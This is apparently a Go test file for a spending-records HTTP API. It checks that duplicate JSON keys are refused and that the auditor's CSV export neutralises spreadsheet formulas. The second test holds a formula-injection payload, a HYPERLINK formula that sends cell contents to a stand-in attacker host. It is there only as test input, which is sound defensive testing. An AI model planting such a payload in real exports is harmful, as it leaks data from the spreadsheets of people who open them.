package httpapi

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/google/uuid"
)

// Issue 12 item 10 over HTTP: an envelope with a key twice is refused on
// the single and the batch route, the field named, and nothing is applied.
func TestHTTPDuplicateKeysRefused(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	body := `{"type":"record_spending","command_id":"` + uuid.NewString() + `","actor":"x","data":{"agreement":"` + agOwn +
		`","line":"L1","year":1,"amount":"1.00","amount":"90 000,00","date":"2024-03-01","document":"dup-key"}}`
	st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], body)
	if st != http.StatusBadRequest && st != http.StatusUnprocessableEntity {
		t.Fatalf("single: status %d %s, want a refusal", st, b)
	}
	if p := decodeProblem(t, b); !problemNames(p, "data.amount") {
		t.Fatalf("single: problem %+v does not name data.amount", p)
	}
	st, b, _ = f.do("POST", "/v1/commands/batch", f.tok["grantee"], "["+body+"]")
	var br BatchResponse
	if err := json.Unmarshal(b, &br); err != nil {
		t.Fatalf("batch: status %d %s: %v", st, b, err)
	}
	if br.Failed != 1 || br.Results[0].Problem == nil || !problemNames(*br.Results[0].Problem, "data.amount") {
		t.Fatalf("batch: %s, want the one command refused naming data.amount", b)
	}
	st, b, _ = f.do("GET", "/v1/agreements/"+agOwn, f.tok["grantee"], nil)
	if st != http.StatusOK || strings.Contains(string(b), "90000") || strings.Contains(string(b), "90 000") {
		t.Fatalf("after refusals: %d %s", st, b)
	}
}

func problemNames(p Problem, field string) bool {
	for _, e := range p.Errors {
		if e.Field == field {
			return true
		}
	}
	return strings.Contains(p.Detail, field)
}

// Issue 12 item 9 end to end: a grantee's reason reaches the auditor's
// CSV audit trail, and must not start a formula there.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	reason := `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
	env := spending(agOwn, "5.00")
	env.Reason = reason
	if st, b, _ := f.do("POST", "/v1/commands", f.tok["grantee"], env); st != http.StatusCreated {
		t.Fatalf("spending: %d %s", st, b)
	}
	st, b, _ := f.do("GET", "/v1/reports/audit?format=csv", f.tok["auditor"], nil)
	if st != http.StatusOK {
		t.Fatalf("audit csv: %d %s", st, b)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("audit csv: %v\n%s", err, b)
	}
	found := false
	for _, r := range recs {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("cell %q begins a formula", c)
			}
			found = found || c == "'"+reason
		}
	}
	if !found {
		t.Errorf("the reason is not in the audit CSV as %q:\n%s", "'"+reason, b)
	}
}
